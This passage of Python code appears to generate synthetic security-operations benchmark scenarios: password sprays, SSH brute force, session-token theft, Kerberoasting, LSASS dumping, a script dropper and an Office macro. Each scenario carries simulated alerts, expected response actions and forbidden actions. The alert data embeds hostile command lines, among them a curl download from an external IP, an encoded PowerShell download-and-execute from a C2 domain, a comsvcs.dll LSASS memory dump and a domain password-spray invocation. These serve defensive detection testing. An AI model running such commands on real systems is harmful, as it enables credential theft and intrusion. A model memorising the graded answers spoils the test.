    attackers = [attacker, s.ext_ip((attacker.rsplit(".", 1)[0],))] if i == 4 else [attacker]
    country = s.pick(HOSTILE_COUNTRIES)
    sprayed: list[Person] = s.sample(OFFICE_STAFF, s.rng.randint(5, 8))
    s.start(s.pick([s.night_time(), s.evening_time(), s.workday_time(6, 7)]))
    victim: Person | None = None
    if i in (0, 1):
        user, name = _NEW_HIRES[(i + s.rng.randint(0, 1) * 2) % len(_NEW_HIRES)]
        # A new hire whose Okta Verify enrollment is still pending: no MFA yet.
        victim = Person(
            user,
            name,
            "Operations",
            "Logistics trainee",
            "standard",
            ("DE",),
            None,
            None,
            mfa=False,
            password_changed="2026-10-26",
        )
        s.identities.append(identity(victim))
        sprayed.insert(s.rng.randint(1, len(sprayed)), victim)
    elif i == 3:
        victim = sprayed[-1]
    s.title = f"Okta password spray against {len(sprayed)} accounts from {attacker}" + (
        f", {victim.name}'s password guessed" if victim else ""
    )
    if victim and i in (0, 1):
        outcome = f"{victim.name}, a new hire without MFA yet, signs in with the guessed password."
    elif victim:
        outcome = f"{victim.name}'s password is right; {victim.first} rejects the MFA push."
    elif i == 2:
        outcome = "No sign-in succeeds, but two accounts are locked out."
    else:
        outcome = "The spray comes from two neighbouring addresses; no sign-in succeeds."
    s.description = (
        f"A password spray from {', '.join(attackers)} ({country_name(country)}) tries one "
        f"password against {len(sprayed)} Northwind accounts; Okta ThreatInsight flags it. "
        + outcome
    )
    minute = 0.0
    for k, person in enumerate(sprayed):
        ip = attackers[k % len(attackers)]
        when = s.at(minute)
        minute += s.rng.choice((0.5, 1, 1.5))
        if person is victim and i != 3:
            continue
        ref = f"okta-push-{person.user}" if person is victim else f"okta-failed-{person.user}"
        s.add(
            ref,
            when,
            okta_failed_login(when, person, ip, country)
            if person is not victim
            else okta_event(
                when,
                person=person,
                event_type="system.push.send_factor_verify_push",
                message="Push notification sent for verification",
                ip=ip,
                country=country,
                ua=SCRIPT_UA,
                targets=[okta_target(person), OKTA_VERIFY],
            ),
        )
    for ip in attackers:
        s.alert(f"okta-threat-{ip}", s.at(minute + 1), okta_spray_threat, ip, country)
    evidence = [f"okta-threat-{attacker}"]
    actions = [("block_ip", ip) for ip in attackers]
    techniques = ["T1110.003"]
    if i in (0, 1) and victim:
        when = s.at(minute + 3)
        s.alert(
            "okta-victim-session",
            when,
            okta_session,
            person=victim,
            threat_suspected=True,
            ip=attacker,
            country=country,
            ua=SCRIPT_UA,
        )
        evidence.append("okta-victim-session")
        techniques.append("T1078.004")
        actions += [("revoke_sessions", victim.user), ("reset_password", victim.user)]
    elif i == 3 and victim:
        when = s.at(minute + 1.5)
        s.alert(
            "okta-victim-deny",
            when,
            okta_push_denied,
            person=victim,
            ip=attacker,
            country=country,
            ua=SCRIPT_UA,
            targets=[okta_target(victim), OKTA_VERIFY],
        )
        evidence.append("okta-victim-deny")
        actions.append(("reset_password", victim.user))
    elif i == 2:
        for person in sprayed[:2]:
            when = s.at(minute + 2)
            s.alert(
                f"okta-locked-{person.user}",
                when,
                okta_event,
                person=person,
                event_type="user.account.lock",
                message="Max sign in attempts exceeded",
                result="FAILURE",
                reason="LOCKED_OUT",
                severity="WARN",
                ip=attacker,
                country=country,
                ua=SCRIPT_UA,
                targets=[okta_target(person)],
            )
    if i == 4:
        s.alert(
            "sentinel-spray",
            s.at(minute + 6),
            sentinel_alert,
            name="Okta password spray from few sources",
            level=3,
            description="Failed Okta sign-ins for many distinct accounts from one or two "
            "addresses within an hour.",
            tactics=["CredentialAccess"],
            techniques=["T1110.003"],
            entities=[
                *(se_ip(ip, country) for ip in attackers),
                *(se_account(p.user) for p in sprayed[:3]),
            ],
        )
        evidence.append("sentinel-spray")
    s.case(
        "password-spray",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=evidence,
        actions=actions,
    )
    forbid_defaults(s)
    bystander = next(p for p in sprayed if p is not victim)
    s.forbid(("block_ip", HQ_EGRESS), ("disable_user", bystander.user))


def _sshd(
    s: Story,
    ref: str,
    when: datetime,
    host: Asset,
    *,
    rule_id: str,
    level: int,
    description: str,
    groups: Sequence[str],
    techniques: Sequence[str],
    message: str,
    data: Record,
) -> None:
    full_log, pre = linux_log(when, host, "sshd", message)
    s.alert(
        ref,
        when,
        wazuh_alert,
        host,
        rule_id=rule_id,
        level=level,
        description=description,
        groups=groups,
        techniques=techniques,
        data=data,
        full_log=full_log,
        location="/var/log/auth.log",
        decoder={"parent": "sshd", "name": "sshd"},
        predecoder=pre,
    )


@template("credential_abuse", 4)
def ssh_brute_force(s: Story, i: int) -> None:
    server = asset(s.pick(WEB_SERVERS))
    attacker = s.ext_ip()
    country = s.pick(HOSTILE_COUNTRIES)
    succeeded = i in (0, 1)
    s.start(s.pick([s.night_time(), s.evening_time(), s.workday_time()]))
    s.title = f"SSH brute force against {server.hostname} from {attacker}" + (
        ", then a login and a download-and-run" if succeeded else ""
    )
    s.description = (
        f"{attacker} ({country_name(country)}) guesses SSH passwords on the internet-facing "
        f"web server {server.hostname}. "
        + (
            "It finds the password of the local 'deploy' account, logs in and pipes a script "
            "from the internet into a shell."
            if succeeded
            else "Every attempt fails."
        )
    )
    sport = s.rng.randint(40000, 60000)
    s.alert(
        "suricata-ssh-scan",
        s.at(0),
        suricata_alert,
        src=attacker,
        sport=sport,
        dst=server.ips[0],
        dport=22,
        sid=2001219,
        signature="ET SCAN Potential SSH Scan",
        category="Attempted Information Leak",
        priority=2,
        techniques=["T1046"],
        app_proto="ssh",
        signature_severity="Minor",
    )
    names = s.sample(("admin", "oracle", "test", "ubuntu", "git", "postgres", "ftpuser"), 3)
    for k, name in enumerate(names, start=1):
        when = s.at(1 + k)
        port = sport + k * 7
        _sshd(
            s,
            f"wazuh-invalid-user-{k}",
            when,
            server,
            rule_id="5710",
            level=5,
            description="sshd: Attempt to login using a non-existent user",
            groups=["syslog", "sshd", "authentication_failed", "invalid_login"],
            techniques=["T1110.001"],
            message=f"Invalid user {name} from {attacker} port {port}",
            data={"srcip": attacker, "srcport": str(port), "dstuser": name},
        )
    when = s.at(6)
    _sshd(
        s,
        "wazuh-brute-force",
        when,
        server,
        rule_id="5712",
        level=10,
        description="sshd: brute force trying to get access to the system. Non existent user.",
        groups=["syslog", "sshd", "authentication_failures"],
        techniques=["T1110"],
        message=f"Invalid user {names[-1]} from {attacker} port {sport + 40}",
        data={"srcip": attacker, "srcport": str(sport + 40), "dstuser": names[-1]},
    )
    evidence = ["wazuh-brute-force"]
    actions = [("block_ip", attacker)]
    techniques = ["T1110.001"]
    if succeeded:
        when = s.at(14)
        _sshd(
            s,
            "wazuh-ssh-login",
            when,
            server,
            rule_id="5715",
            level=3,
            description="sshd: authentication success.",
            groups=["syslog", "sshd", "authentication_success"],
            techniques=["T1078"],
            message=f"Accepted password for deploy from {attacker} port {sport + 91} ssh2",
            data={"srcip": attacker, "srcport": str(sport + 91), "dstuser": "deploy"},
        )
        dropper = s.ext_ip()
        url = f"http://{dropper}/{s.pick(('x', 'init', 'k', 'sys'))}.sh"
        when = s.at(16)
        s.alert(
            "wazuh-download-exec",
            when,
            wazuh_alert,
            server,
            rule_id="100310",
            level=12,
            description="Audit: a download tool's output was piped into a shell",
            groups=["audit", "audit_command", "download_exec"],
            techniques=["T1105", "T1059.004"],
            data={
                "audit": {
                    "type": "EXECVE",
                    "exe": "/usr/bin/curl",
                    "command": "curl",
                    "execve": {"a0": "curl", "a1": "-fsSL", "a2": url},
                    "cwd": "/home/deploy",
                    "uid": "1001",
                    "auid": "1001",
                    "key": "download_exec",
                },
                "dstuser": "deploy",
            },
            full_log=f'type=EXECVE msg=audit({when.timestamp():.3f}:4711): argc=3 a0="curl" '
            f'a1="-fsSL" a2="{url}"',
            location="/var/log/audit/audit.log",
            decoder={"parent": "auditd", "name": "auditd"},
        )
        evidence += ["wazuh-ssh-login", "wazuh-download-exec"]
        actions += [("block_ip", dropper), ("isolate_host", server.hostname)]
        techniques += ["T1078.003", "T1105", "T1059.004"]
    s.case(
        "ssh-brute-force",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=evidence,
        actions=actions,
    )
    forbid_defaults(s)
    s.forbid(("isolate_host", "SRV-DB-01"), ("block_ip", "10.0.5.10"))
    if not succeeded:
        s.forbid(("isolate_host", server.hostname))


@template("credential_abuse", 4)
def token_theft_inbox_rule(s: Story, i: int) -> None:
    victim = s.pick(
        [*EXECUTIVES, PEOPLE["felix.wagner"], PEOPLE["ines.moreau"], PEOPLE["alice.martin"]]
    )
    hidden = i == 3  # a VPS in the victim's own country: no travel alert at all
    country = "DE" if hidden else s.pick(HOSTILE_COUNTRIES)
    attacker = s.ext_ip()
    s.difficulty = "hard" if hidden else "standard"
    s.start(s.workday_time(7, 15))
    forward_to = f"{victim.first.lower()}.{s.hex(4)}@{s.domain('mail', 'box')}"
    s.title = f"Stolen session of {victim.name} replayed; inbox rule hides finance mail"
    s.description = (
        f"{victim.name}'s session token is stolen and replayed from {attacker} "
        f"({country_name(country)}). The attacker creates an inbox rule that moves mail "
        f"mentioning 'invoice' or 'payment' to RSS Feeds"
        + (f" and forwards it to {forward_to}." if i % 2 == 0 else ".")
        + (" The address is in Germany, like the victim." if hidden else "")
    )
    s.alert(
        "sentinel-anomalous-token",
        s.at(0),
        identity_protection,
        name="Anomalous Token",
        alert_type="AnomalousToken",
        level=3,
        description="This detection indicates that there are abnormal characteristics in the "
        "token such as an unusual token lifetime or a token that is played from an unfamiliar "
        "location.",
        user=victim.user,
        ip=attacker,
        country=country,
    )
    if not hidden:
        name, kind = [
            ("Atypical travel", "ImpossibleTravel"),
            ("Unfamiliar sign-in properties", "UnfamiliarFeatures"),
        ][i % 2]
        s.alert(
            "sentinel-signin-risk",
            s.at(2),
            identity_protection,
            name=name,
            alert_type=kind,
            level=3,
            description="Sign-in with properties not seen recently for the user.",
            user=victim.user,
            ip=attacker,
            country=country,
            previous=(HQ_EGRESS, "DE"),
        )
    s.alert(
        "defender-inbox-rule",
        s.at(9),
        defender_alert,
        title="Suspicious inbox manipulation rule",
        level=3,
        description=f"A rule that moves or deletes messages was created in {victim.name}'s "
        "mailbox from an unusual address. Attackers hide replies to fraudulent payment "
        "requests.",
        category="DefenseEvasion",
        techniques=["T1564.008"],
        source="microsoftDefenderForCloudApps",
        evidence=[
            dv_user(victim.user),
            dv_ip(attacker, country=country),
            dv_mailbox(victim.user),
        ],
    )
    techniques = ["T1539", "T1550.004", "T1564.008"]
    if i % 2 == 0:
        s.alert(
            "defender-forwarding",
            s.at(11),
            defender_alert,
            title="Suspicious inbox forwarding",
            level=4,
            description=f"Mail in {victim.name}'s mailbox is forwarded to an external address "
            f"({forward_to}).",
            category="Collection",
            techniques=["T1114.003"],
            source="microsoftDefenderForCloudApps",
            evidence=[dv_user(victim.user), dv_ip(attacker, country=country)],
        )
        techniques.append("T1114.003")
    s.case(
        "session-hijack",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=["sentinel-anomalous-token", "defender-inbox-rule"],
        actions=[
            ("revoke_sessions", victim.user),
            ("reset_password", victim.user),
            ("block_ip", attacker),
        ],
    )
    forbid_defaults(s)
    s.forbid(("quarantine_email", victim.email), ("block_ip", HQ_EGRESS))


@template("credential_abuse", 4)
def kerberoasting(s: Story, i: int) -> None:
    user = s.pick(OFFICE_STAFF)
    ws = laptop(user)
    dc = asset(s.pick(("DC-01", "DC-02")))
    spns = s.sample(("svc-sql", "svc-backup", "svc-sccm", "svc-deploy"), 3)
    s.start(s.workday_time())
    s.title = f"Kerberoasting from {ws.hostname} ({user.name}'s laptop)"
    s.description = (
        f"Malware on {ws.hostname} running as {user.user} requests RC4 service tickets for "
        f"{', '.join(spns)} from {dc.hostname} to crack their passwords offline"
        + (
            f"; minutes later {spns[0]} logs on to SRV-APP-04 from the laptop."
            if i in (0, 3)
            else "."
        )
    )
    # One variant logs the client as an IPv4-mapped IPv6 address, as many DCs do.
    client = f"::ffff:{ws.ips[0]}" if i == 2 else ws.ips[0]
    for k, spn in enumerate(spns):
        when = s.at(k * 0.2)
        s.alert(
            f"wazuh-tgs-{spn}",
            when,
            wazuh_alert,
            dc,
            rule_id="100420",
            level=12,
            description="Kerberos service ticket requested with RC4 encryption: possible "
            "Kerberoasting",
            groups=["windows", "win_security", "kerberoasting"],
            techniques=["T1558.003"],
            data=win_event(
                when,
                dc,
                provider="Microsoft-Windows-Security-Auditing",
                event_id="4769",
                message="A Kerberos service ticket was requested.",
                eventdata={
                    "targetUserName": f"{user.user}@{DOMAIN.upper()}",
                    "targetDomainName": DOMAIN.upper(),
                    "serviceName": spn,
                    "ticketOptions": "0x40810000",
                    "ticketEncryptionType": "0x17",
                    "ipAddress": client,
                    "ipPort": str(s.rng.randint(49152, 65000)),
                    "status": "0x0",
                },
            ),
        )
    evidence = [f"wazuh-tgs-{spns[0]}"]
    if i != 1:
        devices = [dv_device(ws, users=[user.user])]
        if i in (0, 2):
            devices.append(dv_device(dc, roles=("attacked",)))
        s.alert(
            "defender-spn-exposure",
            s.at(4),
            defender_alert,
            title="Suspected Kerberos SPN exposure (external ID 2410)",
            level=4,
            description=f"{user.user} on {ws.hostname} enumerated service principal names and "
            f"requested Kerberos tickets for {len(spns)} service accounts, which can be "
            "cracked offline.",
            category="CredentialAccess",
            techniques=["T1558.003"],
            source="microsoftDefenderForIdentity",
            evidence=[
                *devices,
                dv_user(user.user),
                *(dv_user(spn, ("contextual",)) for spn in spns),
            ],
        )
        evidence.append("defender-spn-exposure")
    techniques = ["T1558.003"]
    if i in (0, 3):
        app = asset("SRV-APP-04")
        when = s.at(25)
        s.alert(
            "wazuh-service-logon",
            when,
            wazuh_alert,
            app,
            rule_id="100432",
            level=10,
            description=f"Service account {spns[0]} logged on from a workstation",
            groups=["windows", "win_security", "authentication_success"],
            techniques=["T1078.002"],
            data=logon_event(
                when, app, logon_data(spns[0], source_ip=ws.ips[0], workstation=ws.hostname)
            ),
        )
        evidence.append("wazuh-service-logon")
        techniques.append("T1078.002")
    s.case(
        "kerberoasting",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=evidence,
        actions=[
            ("isolate_host", ws.hostname),
            ("reset_password", user.user),
            *(("reset_password", spn) for spn in spns),
        ],
    )
    forbid_defaults(s)
    s.forbid(("isolate_host", dc.hostname), ("disable_user", spns[0]))


@template("credential_abuse", 3)
def admin_night_lsass_dump(s: Story, i: int) -> None:
    admin, server_name = [
        (PEOPLE["bob.nguyen"], "SRV-APP-03"),
        (PEOPLE["priya.shah"], "SRV-APP-04"),
        (PEOPLE["bob.nguyen"], "SRV-FS-01"),
    ][i]
    server = asset(server_name)
    source_user = s.pick(OFFICE_STAFF)
    ws = laptop(source_user)
    s.difficulty = "hard"
    s.start(s.night_time())
    s.title = f"{admin.name}'s admin account dumps LSASS on {server.hostname} at night"
    s.description = (
        f"At {s.t0:%H:%M} on a {s.t0:%A}, {admin.user} (an administrator of {server.hostname}) "
        f"opens an RDP session to it from {ws.hostname}, {source_user.name}'s laptop, and dumps "
        "LSASS memory with comsvcs.dll. The admin is asleep: the account is stolen. It looks like "
        "an admin on a server they manage, except for the hour, the source and the dump."
    )
    when = s.at(0)
    s.alert(
        "elastic-rdp-logon",
        when,
        elastic_alert,
        rule="Interactive Logon to a Server",
        level=2,
        techniques=["T1078.002"],
        description="Identifies an interactive or remote-interactive Windows logon (logon type "
        "2 or 10) to a server.",
        rule_type="query",
        host=server,
        user=admin.user,
        reason=f"authentication event by {admin.user} on {server.hostname} created low alert "
        "Interactive Logon to a Server.",
        source={"ip": ws.ips[0]},
        event={
            "category": ["authentication"],
            "type": ["start"],
            "action": "logged-in",
            "code": "4624",
            "outcome": "success",
        },
    )
    s.alert("wazuh-rdp-logon", s.at(0.5), wazuh_rdp_logon, server, admin.user, ws, level=6)
    shell = winproc("powershell.exe", "powershell.exe", EXPLORER)
    dump = winproc(
        "rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump "
        f"{s.rng.randint(600, 900)} C:\\Users\\Public\\{s.hex(6)}.dmp full",
        shell,
    )
    s.alert(
        "falcon-lsass-dump",
        s.at(7),
        crowdstrike_detection,
        server,
        user=admin.user,
        name="Credential Dumping",
        description="A process dumped the memory of the LSASS process with comsvcs.dll. "
        "Adversaries do this to steal credentials.",
        level=5,
        proc=dump,
        techniques=["T1003.001"],
    )
    if i == 1:
        s.alert(
            "defender-lsass",
            s.at(8),
            defender_alert,
            title="Possible credential theft activity",
            level=4,
            description="A process accessed LSASS memory in a way typical of credential theft.",
            category="CredentialAccess",
            techniques=["T1003.001"],
            evidence=[
                dv_device(server, users=[admin.user]),
                dv_user(admin.user),
                dv_process(dump, admin.user, s.at(8)),
            ],
        )
    s.case(
        "stolen-admin-account",
        s.refs(),
        "true_positive",
        techniques=["T1078.002", "T1021.001", "T1003.001"],
        evidence=["falcon-lsass-dump", "elastic-rdp-logon"],
        actions=[
            ("isolate_host", ws.hostname),
            ("isolate_host", server.hostname),
            ("disable_user", admin.user),
            ("reset_password", admin.user),
        ],
    )
    forbid_defaults(s)
    s.forbid(("block_hash", SIGNED["rundll32.exe"]), ("block_hash", SIGNED["powershell.exe"]))


@template("credential_abuse", 4)
def breakglass_guessing(s: Story, i: int) -> None:
    user = s.pick(OFFICE_STAFF)
    ws = laptop(user)
    dc = asset("DC-01")
    s.start(s.workday_time())
    s.title = f"Password guessing against the break-glass account from {ws.hostname}"
    s.description = (
        f"Malware on {ws.hostname} ({user.name}'s laptop) guesses the password of "
        "breakglass-admin against DC-01. The account is the emergency way in: it must never be "
        "disabled or reset by automation; the source laptop is what to contain."
    )
    if i == 2:
        tool = winproc(
            "powershell.exe",
            'powershell.exe -ep bypass -c "Import-Module '
            ".\\dps.ps1; Invoke-DomainPasswordSpray -UserName breakglass-admin "
            '-PasswordList .\\p.txt"',
            EXPLORER,
        )
        s.alert(
            "falcon-spray-tool",
            s.at(0),
            crowdstrike_detection,
            ws,
            user=user.user,
            name="Suspicious Activity",
            description="PowerShell loaded a module that guesses domain account passwords.",
            level=4,
            proc=tool,
            techniques=["T1110.001"],
        )
    for k in range(1, 4):
        when = s.at(1 + k * 0.3)
        s.alert(
            f"wazuh-logon-failure-{k}",
            when,
            wazuh_logon_failure,
            dc,
            "breakglass-admin",
            source_ip=ws.ips[0],
            workstation=ws.hostname,
            techniques=["T1110.001"],
        )
    when = s.at(3)
    s.alert(
        "wazuh-breakglass",
        when,
        wazuh_alert,
        dc,
        rule_id="60204",
        level=10,
        description=f"Multiple Windows logon failures for a break-glass account: "
        f"{NETBIOS}\\breakglass-admin",
        groups=["windows", "win_security", "authentication_failures"],
        techniques=["T1110"],
        data=logon_event(
            when,
            dc,
            logon_data(
                "breakglass-admin", source_ip=ws.ips[0], workstation=ws.hostname, failed=True
            ),
            failed=True,
        ),
    )
    if i == 1:
        s.alert(
            "defender-brute-force",
            s.at(6),
            defender_alert,
            title="Suspected brute-force attack (Kerberos, NTLM)",
            level=4,
            description=f"{ws.hostname} tried many passwords for breakglass-admin.",
            category="CredentialAccess",
            techniques=["T1110.001"],
            source="microsoftDefenderForIdentity",
            evidence=[
                dv_device(ws, users=[user.user]),
                dv_user("breakglass-admin", ("contextual",)),
                dv_device(dc, roles=("attacked",)),
            ],
        )
    s.case(
        "breakglass-guessing",
        s.refs(),
        "true_positive",
        techniques=["T1110.001"],
        evidence=["wazuh-breakglass", *s.refs("falcon-"), *s.refs("defender-")],
        actions=[("isolate_host", ws.hostname)],
    )
    forbid_defaults(s)
    s.forbid(("reset_password", "breakglass-admin"), ("revoke_sessions", "breakglass-admin"))


# ============================================================================================
# malware_execution
# ============================================================================================

_WAZUH_LEVEL = (3, 5, 8, 12, 15)  # rule levels by level 1..5


def _camel(tactic_name: str) -> str:
    return tactic_name.replace(" ", "")


def edr_process(
    vendor: str,
    at: datetime,
    host: Asset,
    *,
    user: str,
    title: str,
    description: str,
    level: int,
    proc: Proc,
    techniques: Sequence[str],
    falcon_name: str = "Suspicious Activity",
    dropped: tuple[str, str, str] | None = None,
    destination: tuple[str, int, str | None] | None = None,
) -> Record:
    """One process detection as CrowdStrike, Defender, Elastic or Wazuh (Sysmon) reports it.

    ``dropped`` is a file the process wrote (name, folder, sha256); ``destination`` a
    connection it made (ip, port, domain).
    """
    if vendor == "crowdstrike":
        return crowdstrike_detection(
            at,
            host,
            user=user,
            name=falcon_name,
            description=description,
            level=level,
            proc=proc,
            techniques=techniques,
            ioc=("domain", destination[2])
            if destination and destination[2]
            else ("hash_sha256", dropped[2])
            if dropped
            else None,
            connections=[(destination[0], destination[1])] if destination else (),
        )
    if vendor == "defender":
        evidence = [dv_device(host, users=[user]), dv_user(user), dv_process(proc, user, at)]
        if dropped:
            evidence.append(dv_file(*dropped))
        if destination:
            evidence.append(dv_ip(destination[0], roles=("destination",)))
            if destination[2]:
                evidence.append(dv_url(f"https://{destination[2]}/"))
        return defender_alert(
            at,
            title=title,
            description=description,
            level=level,
            techniques=techniques,
            category=_camel(tactic_of(techniques[0])[1]),
            evidence=evidence,
        )
    if vendor == "elastic":
        return elastic_alert(
            at,
            rule=title,
            description=description,
            level=level,
            techniques=techniques,
            host=host,
            user=user,
            process=proc,
            reason=f"process event with process {proc.name}"
            + (f", parent process {proc.parent.name}" if proc.parent else "")
            + f", by {user} on {host.hostname} created {level_word(level)} alert {title}.",
            file=(dropped[0], f"{dropped[1]}\\{dropped[0]}", dropped[2]) if dropped else None,
            source={"ip": host.ips[0]} if destination else None,
            destination={
                "ip": destination[0],
                "port": destination[1],
                **({"domain": destination[2]} if destination[2] else {}),
            }
            if destination
            else None,
            event={
                "category": ["process"],
                "type": ["start"],
                "action": "start",
                "dataset": "endpoint.events.process",
                "module": "endpoint",
            },
        )
    rule_id = str(number_of("sysmon-rule", title, low=100100, high=100999))
    return wazuh_alert(
        at,
        host,
        rule_id=rule_id,
        level=_WAZUH_LEVEL[level - 1],
        description=title,
        groups=["windows", "sysmon", "sysmon_eid1_detections"],
        techniques=techniques,
        data=win_event(
            at,
            host,
            provider="Microsoft-Windows-Sysmon",
            event_id="1",
            message="Process Create:",
            eventdata=sysmon_process(at, proc, user),
        ),
    )


def encoded(command: str) -> str:
    """PowerShell's ``-enc`` argument for ``command`` (UTF-16LE, base64)."""
    import base64

    return base64.b64encode(command.encode("utf-16-le")).decode()


def beacon(at: datetime, src: Asset, ip: str, domain: str, *, known: bool) -> Record:
    """Suricata seeing a C2 check-in over TLS; ``known`` domains have an ET MALWARE rule."""
    spaced = domain.replace(".", " .", 1) if known else domain
    if known:
        signature, sid, priority = (
            f"ET MALWARE Observed Malicious Domain ({spaced}) in TLS SNI",
            2059000 + number_of("sid", domain, high=999),
            1,
        )
    else:
        signature, sid, priority = (
            "ET JA3 Hash - Possible Malware - Sliver/Cobalt-style default TLS client",
            2028831,
            2,
        )
    return suricata_alert(
        at,
        src=src.ips[0],
        dst=ip,
        dport=443,
        sid=sid,
        signature=signature,
        category="Domain Observed Used for C2 Detected" if known else "Potentially Bad Traffic",
        priority=priority,
        techniques=["T1071.001"],
        app_proto="tls",
        extra={
            "tls": {
                "sni": domain,
                "version": "TLS 1.2",
                "ja3": {"hash": digest("ja3", domain), "string": "771,49196-49195,0-10-11,29-23,0"},
            }
        },
    )


_LURES = (
    ("INV-{n}.js", "wscript.exe", "T1059.007"),
    ("Shipment_{n}.vbs", "wscript.exe", "T1059.005"),
    ("Delivery_Note_{n}.js", "wscript.exe", "T1059.007"),
    ("Statement_{n}.hta", "mshta.exe", "T1059.005"),
)
_PAYLOAD_NAMES = (
    "invsvc.exe",
    "updsvc.exe",
    "OneDriveUpdate.exe",
    "msedgeupd.exe",
    "winlogsvc.exe",
    "rtkaudio.exe",
)


@template("malware_execution", 5)
def script_dropper(s: Story, i: int) -> None:
    victim = s.pick(OFFICE_STAFF)
    ws = laptop(victim)
    lure_pattern, interpreter, script_technique = _LURES[i % len(_LURES)]
    lure = lure_pattern.format(n=s.rng.randint(10000, 99999))
    payload_name = s.pick(_PAYLOAD_NAMES)
    payload = s.sha256()
    if i == 0:  # the commodity loader of Northwind's own feed
        c2_ip, c2_domain = C2_LOADER_IP, C2_LOADER_DOMAIN
    else:
        c2_ip, c2_domain = s.ext_ip(), s.domain()
    known = i <= 2
    if 0 < i <= 2:
        s.intel(c2_domain, "domain", "C2 of a script-dropper campaign", 85)
        s.intel(c2_ip, "ip", f"Resolves from {c2_domain}", 80)
    s.start(s.workday_time())
    s.title = f"Script dropper {lure} on {ws.hostname} installs {payload_name} and beacons"
    s.description = (
        f"{victim.name} opens {lure} from Downloads; {interpreter} starts a hidden, encoded "
        f"PowerShell that downloads {payload_name} into AppData and runs it. It beacons to "
        f"{c2_domain} ({c2_ip})"
        + (", which threat intelligence lists." if known else ", which no feed knows yet.")
    )
    downloads = f"C:\\Users\\{victim.user}\\Downloads\\{lure}"
    script = winproc(interpreter, f'"C:\\Windows\\System32\\{interpreter}" "{downloads}"', EXPLORER)
    ps = winproc(
        "powershell.exe",
        "powershell.exe -nop -w hidden -enc "
        + encoded(
            f"IEX (New-Object Net.WebClient).DownloadString('https://{c2_domain}/{s.hex(6)}')"
        ),
        script,
    )
    folder = f"C:\\Users\\{victim.user}\\AppData\\Roaming\\{payload_name.split('.')[0]}"
    implant = Proc(
        f"{folder}\\{payload_name}", f'"{folder}\\{payload_name}" -k netsvc', payload, ps
    )
    first, second = [
        ("crowdstrike", "defender"),
        ("defender", "elastic"),
        ("elastic", "crowdstrike"),
        ("wazuh", "crowdstrike"),
        ("crowdstrike", "elastic"),
    ][i]
    s.add(
        "edr-encoded-powershell",
        s.at(0),
        edr_process(
            first,
            s.at(0),
            ws,
            user=victim.user,
            title="Script Host Spawning Encoded PowerShell",
            description="A script interpreter launched PowerShell with an encoded, hidden command, "
            "typical of a malicious script or document dropper.",
            level=4,
            proc=ps,
            techniques=["T1059.001", "T1204.002"],
        ),
    )
    if second == "crowdstrike":
        s.alert(
            "edr-payload",
            s.at(1),
            falcon_ml_detection,
            ws,
            user=victim.user,
            proc=implant,
            sha256=payload,
            level=5,
        )
    else:
        s.add(
            "edr-payload",
            s.at(1),
            edr_process(
                second,
                s.at(1),
                ws,
                user=victim.user,
                title="Suspicious file dropped and launched",
                description=f"PowerShell wrote {payload_name} to a user-writable folder and "
                "started it.",
                level=4,
                proc=implant,
                techniques=["T1105", "T1204.002"],
                dropped=(payload_name, folder, payload),
            ),
        )
    s.alert("suricata-c2", s.at(3), beacon, ws, c2_ip, c2_domain, known=known)
    if i % 2 == 0:
        s.alert(
            "elastic-c2",
            s.at(4),
            elastic_alert,
            rule="Network Connection by Recently Dropped Executable",
            level=4,
            techniques=["T1071.001"],
            description="Identifies an executable written to a user-writable folder that "
            "connects to the internet within minutes of being created.",
            host=ws,
            user=victim.user,
            process=implant,
            reason=f"network event with process {payload_name}, destination {c2_ip}:443, by "
            f"{victim.user} on {ws.hostname}.",
            source={"ip": ws.ips[0]},
            destination={"ip": c2_ip, "port": 443, "domain": c2_domain},
            dns=c2_domain,
            event={
                "category": ["network"],
                "type": ["start"],
                "action": "connection_attempted",
            },
        )
    s.case(
        "script-dropper",
        s.refs(),
        "true_positive",
        techniques=["T1204.002", script_technique, "T1059.001", "T1105", "T1071.001"],
        evidence=["edr-encoded-powershell", "edr-payload", "suricata-c2"],
        actions=[
            ("isolate_host", ws.hostname),
            ("block_hash", payload),
            ("block_domain", c2_domain),
            ("block_ip", c2_ip),
        ],
    )
    forbid_defaults(s)
    s.forbid(("block_hash", SIGNED["powershell.exe"]), ("block_hash", SIGNED[interpreter]))


@template("malware_execution", 4)
def office_macro(s: Story, i: int) -> None:
    victim = s.pick(OFFICE_STAFF)
    ws = laptop(victim)
    hidden = i == 3  # one medium alert and a Sysmon connection: nothing known-bad
    s.difficulty = "hard" if hidden else "standard"
    app = "EXCEL.EXE" if i % 2 else "WINWORD.EXE"
    doc = s.pick(
        ("Q3-forecast", "Rechnung_4471", "Frachtbrief_0925", "Rate_card_2027", "Claim_form")
    ) + (".xlsm" if app == "EXCEL.EXE" else ".docm")
    dll = f"{s.hex(8)}.dll"
    dll_hash = s.sha256()
    temp = f"C:\\Users\\{victim.user}\\AppData\\Local\\Temp"
    c2 = s.ext_ip()
    s.start(s.workday_time())
    s.title = f"Macro in {doc} runs a DLL through {'regsvr32' if i == 2 else 'rundll32'}"
    s.description = (
        f"{victim.name} enables content in {doc}; the macro starts cmd.exe, which loads {dll} "
        f"from Temp with a signed system binary; the DLL calls out to {c2}."
        + (
            " Only a medium-severity Office child-process alert and a Sysmon network event show it."
            if hidden
            else ""
        )
    )
    office = winproc(app, f'"{app}" /n "C:\\Users\\{victim.user}\\Downloads\\{doc}"', EXPLORER)
    shell = winproc(
        "cmd.exe", f"cmd.exe /c start /b rundll32 {temp}\\{dll},DllRegisterServer", office
    )
    if i == 2:
        loader = winproc(
            "regsvr32.exe", f"regsvr32.exe /s /n /u /i:{temp}\\{dll} scrobj.dll", shell
        )
        proxy_technique = "T1218.010"
    else:
        loader = winproc("rundll32.exe", f"rundll32.exe {temp}\\{dll},DllRegisterServer", shell)
        proxy_technique = "T1218.011"
    s.alert(
        "defender-office-child",
        s.at(0),
        defender_alert,
        title="Suspicious process launched by an Office application",
        level=3,
        description=f"{app} started cmd.exe, which loaded a DLL from a temporary folder.",
        category="Execution",
        techniques=["T1204.002", "T1059.003"],
        evidence=[
            dv_device(ws, users=[victim.user]),
            dv_user(victim.user),
            dv_process(shell, victim.user, s.at(0)),
            dv_file(dll, temp, dll_hash),
        ],
    )
    if hidden:
        when = s.at(2)
        s.alert(
            "wazuh-sysmon-network",
            when,
            wazuh_alert,
            ws,
            rule_id="100530",
            level=6,
